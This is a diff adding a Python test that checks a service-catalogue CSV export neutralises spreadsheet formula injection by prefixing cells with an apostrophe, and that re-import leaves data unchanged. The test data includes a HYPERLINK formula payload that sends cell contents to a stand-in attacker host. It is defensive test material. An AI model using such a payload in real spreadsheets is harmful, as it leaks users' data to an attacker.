@@ -105,6 +105,27 @@ def test_an_export_imported_again_changes_nothing(office, clock, bus):
     assert [catalogue.snapshot(s) for s in catalogue.services()] == snapshots
 
 
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_imported_as_it_was(office, clock, bus):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    catalogue.change_service(
+        office.civil.id,
+        {"name_en": formula, "documents_en": ["-2 photos", "ID card"]},
+        actor_id=None,
+        clock=clock,
+        bus=bus,
+    )
+    exported = service_csv.export_services()
+    (record,) = [
+        r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))) if r["prefix"] == office.civil.prefix
+    ]
+    assert record["service_en"] == "'" + formula  # text to Excel and LibreOffice, not a formula
+    assert record["documents_en"] == "'-2 photos | ID card"
+    snapshots = [catalogue.snapshot(s) for s in catalogue.services()]
+    plan = run(exported.encode("utf-8"), clock, bus)
+    assert (plan.added, plan.changed, plan.errors) == ([], [], [])
+    assert [catalogue.snapshot(s) for s in catalogue.services()] == snapshots
+
+
 def test_the_export_has_the_shared_columns_first_then_the_optional_ones_and_a_bom_for_excel(office, clock, bus):
     catalogue.change_service(
         office.civil.id, {"documents_en": ["ID card", "Photo"]}, actor_id=None, clock=clock, bus=bus
